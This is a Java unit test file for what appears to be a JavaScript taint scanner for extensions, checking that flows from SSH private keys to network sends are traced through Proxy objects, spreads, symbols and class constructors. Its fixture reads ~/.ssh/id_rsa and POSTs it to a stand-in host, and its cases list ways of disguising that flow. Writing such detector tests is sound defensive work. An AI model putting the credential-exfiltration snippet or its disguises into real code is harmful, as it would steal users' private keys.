package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A proxy is its target with traps before it, as stores that tell their readers of each change are built. */
class ProxiesTest {

    private static final String START = """
            const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
            const send = text => fetch('https://a.example/', { method: 'POST', body: text });
            """;

    private static Analysis analysis(String script) {
        return Analysis.of(START + script);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "send(JSON.stringify(new Proxy({ key }, { get: (target, name) => target[name] })))",
                "send(JSON.stringify({ ...new Proxy({ key }, { set: (target, name, value) => Reflect.set(target, name, value) }) }))",
                "send(JSON.stringify(Object.assign({}, new Proxy({ key }, {}))))",
                "const kept = new Proxy({ key }, {}); for (const name in kept) send(kept[name])",
                "const kept = new Proxy({ key }, {}); Object.keys(kept).forEach(name => send(kept[name]))",
                "const kept = new Proxy({ key }, {}); if (typeof kept === 'object' && kept.hasOwnProperty('key')) send(kept.key)",
                "const kept = new Proxy({}, { ownKeys(target) { send(key); return Reflect.ownKeys(target); } }); Object.keys(kept)",
                "const kept = new Proxy({}, { has(target, name) { send(name); return false; } }); key in kept",
                "const kept = new Proxy({}, { deleteProperty(target, name) { send(name); return true; } }); delete kept[key]",
            })
    void whatLiesInTheTargetLeavesByTheProxy(String script) {
        assertThat(analysis(script).flowNames()).contains("ssh-credentials -> network-send");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "for (const each of list) send(each)",
                "list.map(send)",
                "send([...list].join())",
                "if (Array.isArray(list)) send(list[0])",
                "send(JSON.stringify(list))",
            })
    void aProxyOfAListIsAList(String script) {
        assertThat(analysis(
                                "const list = new Proxy([], { get: (target, name, self) => Reflect.get(target, name, self) });\n"
                                        + "list.push(key);\n" + script)
                        .flowNames())
                .contains("ssh-credentials -> network-send");
    }

    @Test
    void anObjectThatIsAProxyOfItselfIsOfItsClass() {
        assertThat(analysis("""
                class Keys { constructor() { return new Proxy(this, { get: (target, name) => target[name] }); } read() { return key; } }
                const keys = new Keys();
                if (keys instanceof Keys) send(keys.read());
                """).flowNames()).contains("ssh-credentials -> network-send");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const names = new Set(Reflect.ownKeys(object)); names.delete(kept); names.forEach(name => send(object[name]))",
                "for (const symbol of Object.getOwnPropertySymbols(object)) if (symbol === kept) send(object.key)",
                "const copy = Object.assign({}, object); if (copy[kept] === 'inside') send(copy.key)",
                "const copy = { ...object }; if (copy[kept] === 'inside') send(copy.key)",
                "const seen = new Proxy(object, { get: (target, name) => (typeof name === 'symbol' ? target.key : '') }); send(seen[kept])",
            })
    void aSymbolAmongTheNamesIsASymbol(String script) {
        Analysis analysis = analysis("const kept = Symbol('kept'), object = { [kept]: 'inside', key };\n" + script);

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
        assertThat(analysis.calls())
                .filteredOn(call -> call.api().equals("global.fetch"))
                .allSatisfy(call -> assertThat(call.arguments().get(1).texts()).doesNotContain("inside"));
    }

    @Test
    void aTextThatLooksLikeASymbolInsideIsAText() {
        assertThat(analysis("""
                const object = { '\\0a\\0b': key, '\\0\\0': key, '\\0a\\09999999999': key };
                Reflect.ownKeys(object).forEach(name => { if (typeof name === 'string') send(object[name]); });
                new Proxy({}, { get: () => '' })['\\0a\\0b'];
                """).flowNames()).contains("ssh-credentials -> network-send");
    }
}
